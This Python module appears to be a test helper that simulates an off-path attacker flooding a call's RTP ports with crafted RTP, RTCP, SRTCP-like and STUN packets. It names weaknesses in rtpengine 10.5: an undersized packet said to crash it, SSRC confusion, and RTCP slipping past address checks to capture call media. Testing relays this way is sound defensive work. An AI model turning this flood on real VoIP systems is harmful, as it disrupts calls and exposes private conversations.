"""Somebody who knows a call's ports, perhaps its SSRCs, and nothing else: floods them from a socket of his.

Knows RTP, RTCP, STUN and what looks like SRTP. Must not know calls, keys or passwords.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterable, Sequence
from types import TracebackType
from typing import Final, Self

SSRC: Final = 0x0BAD0BAD
HOST: Final = "127.0.0.66"
_BURST: Final = 10
"""Packets in a row. rtpengine 10.5 reads no more from a port, for good, that had more than 50 waiting five times: so
what was missed is not made up for."""
_LISTEN_EVERY: Final = 50

Target = tuple[str, int]


Kind = Callable[[int, int], bytes]
"""(number of the packet, SSRC it names) -> packet"""


def _rtp(payload_type: int) -> Kind:
    def packet(number: int, ssrc: int) -> bytes:
        header = struct.pack("!BBHII", 0x80, payload_type, number & 0xFFFF, number * 160 & 0xFFFFFFFF, ssrc)
        return header + b"\xd5" * 160

    return packet


def _sender_report(number: int, ssrc: int) -> bytes:
    # Read as RTP, too, it names the same SSRC: see the note on KINDS.
    return struct.pack("!BBHIIIIII", 0x80, 200, 6, ssrc, ssrc, number, number, 1, 1)


def _receiver_report(ssrc: int) -> bytes:
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc)


def _goodbye(number: int, ssrc: int) -> bytes:
    goodbye = struct.pack("!BBHI", 0x81, 203, 1, ssrc)
    # The last word is what SRTCP has as index: E bit 0, so nobody may look for encryption (RFC 3711 §3.4).
    return _receiver_report(ssrc) * 3 + goodbye + struct.pack("!I", number & 0x7FFFFFFF)


def _key_frame_request(number: int, ssrc: int) -> bytes:
    request = struct.pack("!BBHII", 0x81, 206, 2, ssrc, ssrc)
    return _receiver_report(ssrc) + request * 2 + struct.pack("!I", number & 0x7FFFFFFF)


def _short(number: int, ssrc: int) -> bytes:
    """Shorter than SRTCP may be in any protection profile: rtpengine 10.5 dies of it where keys are AES-GCM."""
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc) + bytes(number % 20)


def _encrypted(_number: int, ssrc: int) -> bytes:
    return struct.pack("!BBHII", 0x80, 111, 7, 7, ssrc) + os.urandom(80)


def _binding_request(_number: int, _ssrc: int) -> bytes:
    """Without MESSAGE-INTEGRITY (RFC 8445 §7.3 wants it)."""
    return struct.pack("!HHI", 1, 0, 0x2112A442) + os.urandom(12)


# All name few SSRCs. With a new one in each packet rtpengine forgets which SSRC it gave the call's own stream and gives
# it another one: nothing is relayed or lost, but whoever counts packets by SSRC cannot tell.
# RTCP comes first: before the first RTP of a call it is what address checks forget.
KINDS: Final = (
    _sender_report,
    _goodbye,
    _key_frame_request,
    _short,
    _rtp(8),
    _rtp(0),
    _rtp(111),
    _rtp(96),
    _rtp(97),
    _encrypted,
    _binding_request,
)


REPORTS: Final = KINDS[:4]
"""RTCP alone: what an address check lets pass as long as it has seen no RTP, not even of a stranger."""


class Attacker:
    """Floods targets in a thread of its own; use as a context manager."""

    def __init__(
        self,
        targets: Iterable[Target],
        packets_per_s: float,
        *,
        host: str = HOST,
        ssrc: int = SSRC,
        kinds: Sequence[Kind] = KINDS,
    ) -> None:
        """`host`: his address, which may be that of an end of the call; `ssrc`: the one he names, perhaps guessed."""
        self._targets = tuple(targets)
        self._packets_per_s = packets_per_s
        self._ssrc = ssrc
        self._kinds = kinds
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((host, 0))
        self._socket.setblocking(False)
        self.sent = 0
        self.stolen = 0
        """Packets that came to him: media of the call, or an answer."""
        self._stopped = threading.Event()
        self._thread = threading.Thread(target=self._flood, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._stopped.set()
        self._thread.join()
        self._listen()
        self._socket.close()

    def _flood(self) -> None:
        due = time.monotonic()
        for number, (kind, target) in enumerate(
            itertools.cycle(itertools.product(self._kinds, self._targets)), start=1
        ):
            try:
                self._socket.sendto(kind(number, self._ssrc), target)
            except BlockingIOError:
                continue
            self.sent += 1
            if self.sent % _LISTEN_EVERY == 0:
                self._listen()
            if self.sent % _BURST == 0:
                if self._stopped.is_set():
                    return
                due = max(due + _BURST / self._packets_per_s, time.monotonic())
                time.sleep(max(0.0, due - time.monotonic()))

    def _listen(self) -> None:
        while True:
            try:
                self._socket.recv(2048)
            except BlockingIOError:
                return
            self.stolen += 1
